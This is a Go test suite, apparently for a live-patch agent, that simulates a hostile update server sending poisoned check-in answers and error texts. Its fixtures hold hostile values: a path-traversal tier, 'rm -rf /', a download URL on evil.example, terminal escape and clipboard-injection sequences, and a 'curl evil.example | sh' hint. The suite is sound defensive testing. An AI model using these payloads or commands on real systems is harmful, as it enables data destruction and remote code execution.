//go:build attack

package attack

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	api "livepatch/internal/service"
	"livepatch/tests/attack/report"
	"livepatch/tests/lab"
)

// checkIn returns what makes a front give another answer to check-ins.
func checkIn(answer string, header ...string) func(string, *http.Response) {
	return func(p string, res *http.Response) {
		if strings.HasSuffix(p, "/check-in") {
			lab.Replace(res, []byte(answer))
			for i := 0; i+1 < len(header); i += 2 {
				res.Header.Set(header[i], header[i+1])
			}
		}
	}
}

// memory is what an agent keeps of the answers of its service.
type memory struct {
	Interval   time.Duration `json:"interval"`
	Generation int64         `json:"generation"`
	Tier       string        `json:"tier"`
}

func (v *victim) memory(t *testing.T) (m memory) {
	t.Helper()
	b, err := os.ReadFile(v.Path("agent/state.json"))
	lab.Must(t, err)
	lab.Must(t, json.Unmarshal(b, &m))
	return m
}

// Answers to check-ins carry no signature. What they can do is bounded by what the
// agent takes from them.
func TestHostileServerPoisonedCheckIn(t *testing.T) {
	t.Parallel()
	s := lab.NewService(t)
	v := newVictim(t, s)
	answer := func(interval, generation any, tier string) string {
		quoted, err := json.Marshal(tier)
		lab.Must(t, err)
		return fmt.Sprintf(`{"interval_seconds":%v,"generation":%v,"tier":%s}`, interval, generation, quoted)
	}
	for name, change := range map[string]func(string, *http.Response){
		"interval of 0":                     checkIn(answer(0, 1, "stable")),
		"interval below zero":               checkIn(answer(-1, 1, "stable")),
		"interval of 10^18 s":               checkIn(answer(int64(1e18), 1, "stable")),
		"interval of 10^30 s":               checkIn(answer("1000000000000000000000000000000", 1, "stable")),
		"interval of half a second":         checkIn(answer(0.5, 1, "stable")),
		"generation below zero":             checkIn(answer(3600, -1, "stable")),
		"generation of the largest number":  checkIn(answer(3600, int64(1<<63-1), "stable")),
		"generation that wraps":             checkIn(answer(3600, int64(-1<<63), "stable")),
		"tier that is a path":               checkIn(answer(3600, 1, "../../etc/passwd")),
		"tier with commands for a terminal": checkIn(answer(3600, 1, "\x1b[2J\x1b]0;owned\x07")),
		"tier of 60 KB":                     checkIn(answer(3600, 1, strings.Repeat("x", 60000))),
		"fields that nobody knows":          checkIn(`{"interval_seconds":3600,"generation":1,"tier":"stable","run":"rm -rf /","url":"http://evil.example/x.ko"}`),
		"each field twice":                  checkIn(`{"interval_seconds":3600,"interval_seconds":-1,"generation":1,"tier":"stable"}`),
		"null":                              checkIn(`null`),
		"a list":                            checkIn(`[]`),
		"brackets 30 000 deep":              checkIn(strings.Repeat("[", 30000)),
		"1 MB":                              checkIn(`{"tier":"` + strings.Repeat("x", 1<<20) + `"}`),
		"clock of 1970":                     checkIn(answer(3600, 1, "stable"), "Date", "Thu, 01 Jan 1970 00:00:00 GMT"),
		"clock of 2100":                     checkIn(answer(3600, 1, "stable"), "Date", "Fri, 01 Jan 2100 00:00:00 GMT"),
	} {
		t.Run(name, func(t *testing.T) {
			a := report.Begin(t, report.Server, "poisoned check-in: "+name)
			v.serve(v.repo, change)
			v.refresh(t, a)
			m := v.memory(t)
			if m.Interval < 0 || m.Interval > 24*time.Hour || len(m.Tier) > 128 || strings.ContainsAny(m.Tier, "/\x1b") {
				t.Errorf("the agent keeps %+v", m)
			}
			a.StoppedBy("agent keeps interval %v, tier %.20q", m.Interval, m.Tier)
			if out := v.CLI("status", "--verbose").Stdout; strings.ContainsAny(out, "\x1b\x07") {
				t.Errorf("status sends commands to the terminal: %q", out)
			}
			v.serve(v.repo)
			v.OK("refresh")
		})
	}
	v.recovers(t)
}

// A service that asks for no pause gets ten checks like that in an hour, and none shorter
// than ten seconds after that.
func TestHostileServerDrivesTheAgent(t *testing.T) {
	t.Parallel()
	s := lab.NewService(t)
	a := report.Begin(t, report.Server, "poisoned check-in: interval of 1 s, to drive all machines")
	v := newVictim(t, s)
	v.serve(v.repo, checkIn(`{"interval_seconds":1,"generation":1,"tier":"stable"}`))
	v.OK("config", "check-interval=")
	v.OK("refresh")
	checkIns := func() (n int) {
		for _, r := range v.seen.list() {
			if r.URL.Path == api.PathCheckIn {
				n++
			}
		}
		return n
	}
	time.Sleep(15 * time.Second) // the ten
	before := checkIns()
	time.Sleep(15 * time.Second)
	asked := checkIns() - before
	if before > 15 || asked > 2 {
		t.Errorf("the agent asked %d times at first, then %d times in 15 seconds", before, asked)
	}
	a.StoppedBy("agent: ten of 1 s an hour, else 10 s at least; %d requests in 15 s", asked)
	v.unharmed(t)
}

// Whatever a hostile service puts into texts, the user's terminal shows it and does not
// obey it.
func TestHostileServerTexts(t *testing.T) {
	t.Parallel()
	s := lab.NewService(t)
	v := newVictim(t, s)
	const escape = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\u009b31m\r\nhint: run: curl evil.example | sh\u2028\u202e"
	text, err := json.Marshal(escape)
	lab.Must(t, err)
	body := []byte(`{"code":"invalid","message":` + string(text) + `}`)
	failure := func(code int) func(string, *http.Response) {
		return func(_ string, res *http.Response) {
			lab.Replace(res, body)
			res.StatusCode = code
			res.Header.Set("Content-Type", "application/json")
		}
	}
	for name, change := range map[string]func(string, *http.Response){
		"refusal with 400": failure(http.StatusBadRequest), "refusal with 401": failure(http.StatusUnauthorized),
		"refusal with 503": failure(http.StatusServiceUnavailable), "refusal with 422": failure(http.StatusUnprocessableEntity),
		"signed file that is no JSON": files("timestamp.json", func(res *http.Response) { lab.Replace(res, []byte(escape)) }),
		"signed file with a type": files(".rollout.json", func(res *http.Response) {
			lab.Replace(res, []byte(`{"signatures":[],"signed":{"_type":`+string(text)+`}}`))
		}),
	} {
		t.Run(name, func(t *testing.T) {
			a := report.Begin(t, report.Server, "text with commands for a terminal: "+name)
			logged := len(v.Log.String())
			next := lab.Repository{Repo: v.repo.Clone()}
			next.Publish("rollout")
			v.serve(next, change)
			r := v.refresh(t, a)
			if lines := strings.Count(r.Stderr, "\n"); r.Code != 1 || lines != 2 || strings.Count(r.Stderr, "hint:") > 2 {
				t.Errorf("refresh = %v", r)
			}
			if strings.HasPrefix(strings.SplitN(r.Stderr+"\n", "\n", 3)[1], "hint: run: curl") {
				t.Errorf("the service gave the user a hint of its own: %q", r.Stderr)
			}
			for _, out := range []string{v.CLI("status", "--verbose").Stdout, v.CLI("status", "--format", "json").Stdout, v.Log.String()[logged:]} {
				if strings.ContainsAny(out, "\x1b\x07\u009b\u202e") {
					t.Errorf("commands for a terminal in %q", out)
				}
			}
			v.serve(v.repo)
			v.CLI("enable", s.Token()) // 401 has made the agent ask for another token
			v.CLI("refresh")
		})
	}
}
